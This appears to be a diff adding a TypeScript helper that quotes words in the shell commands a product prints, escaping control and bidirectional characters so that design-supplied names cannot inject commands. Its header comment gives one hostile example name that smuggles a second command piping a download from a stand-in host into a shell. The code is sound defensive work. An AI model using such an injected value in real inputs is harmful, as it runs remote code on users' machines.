@@ -1,0 +1,38 @@
+/**
+ * Quoting for the shell lines the product prints (runbook commands, hints): every word that
+ * comes from a design — a cluster, context, namespace or file name — goes through `shellWord`,
+ * so a name such as `ok-a;curl evil.example|sh` is one argument, never a second command.
+ */
+
+/** Characters a POSIX shell passes through unchanged in an unquoted word. */
+const PLAIN = /^[A-Za-z0-9_@%+=:,./-]+$/;
+
+/**
+ * Characters that must not reach a terminal or a copy-paste buffer raw: C0 and C1 controls,
+ * DEL, the line and paragraph separators, and the bidirectional overrides and isolates
+ * (which make a command read differently from what it runs).
+ */
+const INVISIBLE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/;
+
+const hex = (c: string, width: number) => c.codePointAt(0)!.toString(16).padStart(width, "0");
+
+/**
+ * One shell word that the shell reads back as exactly `word`. Plain words stay as they are;
+ * others are single-quoted (`'it'\''s'`); a word holding control or invisible characters is
+ * written in `$'…'` form (POSIX.1-2024, bash, zsh, ksh) with those characters as `\xHH` /
+ * `\uHHHH` escapes, so the printed line is one visible line with nothing hidden in it.
+ */
+export function shellWord(word: string): string {
+  if (PLAIN.test(word)) return word;
+  if (!INVISIBLE.test(word)) return `'${word.replace(/'/g, "'\\''")}'`;
+  let out = "";
+  for (const ch of word) {
+    if (ch === "\\" || ch === "'") out += `\\${ch}`;
+    else if (INVISIBLE.test(ch)) out += ch.codePointAt(0)! < 0x100 ? `\\x${hex(ch, 2)}` : `\\u${hex(ch, 4)}`;
+    else out += ch;
+  }
+  return `$'${out}'`;
+}
+
+/** A command line from its words, each quoted with `shellWord`. */
+export const shellLine = (words: readonly string[]): string => words.map(shellWord).join(" ");
